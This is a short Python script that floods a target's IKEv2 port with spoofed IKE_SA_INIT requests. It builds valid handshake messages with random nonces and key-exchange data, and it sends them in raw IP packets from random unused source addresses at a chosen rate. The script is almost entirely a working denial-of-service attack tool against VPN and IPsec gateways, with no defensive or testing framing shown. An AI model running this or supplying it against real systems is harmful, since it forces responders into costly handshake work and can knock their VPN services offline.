# SPDX-License-Identifier: Apache-2.0
"""Spoofed IKE_SA_INIT requests, each good enough to be answered, from addresses that nobody has: spoof.py TARGET RATE"""
import os
import random
import signal
import socket
import struct
import sys
import time

IKE = 500
NOTHING = 0
SA, KE, NONCE = 33, 34, 40
BURST = 0.01  # seconds


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def transform(last, kind, number, attribute=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attribute), kind, 0, number) + attribute


def request():
    """aes128gcm16-prfsha256-x25519 (RFC 7296 3.3)."""
    transforms = (transform(False, 1, 20, struct.pack("!HH", 0x800E, 128)) + transform(False, 2, 5) + transform(True, 4, 31))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    body = (payload(KE, proposal) + payload(NONCE, struct.pack("!HH", 31, 0) + os.urandom(32))
            + payload(NOTHING, os.urandom(32)))
    return os.urandom(8) + bytes(8) + struct.pack("!BBBBII", SA, 0x20, 34, 0x08, 0, 28 + len(body)) + body


def packet(target):
    message = request()
    source = bytes([100, 64 + random.randrange(64), random.randrange(256), 1 + random.randrange(254)])
    udp = struct.pack("!HHHH", random.randrange(1024, 65536), IKE, 8 + len(message), 0)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 28 + len(message), 0, 0, 64, socket.IPPROTO_UDP, 0)  # the kernel sums it
    return ip + source + socket.inet_aton(target) + udp + message


def main():
    target, rate = sys.argv[1], int(sys.argv[2])
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(True))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        while not stop:
            for _ in range(int(rate * BURST)):
                s.sendto(packet(target), (target, 0))
            time.sleep(BURST)


if __name__ == "__main__":
    main()
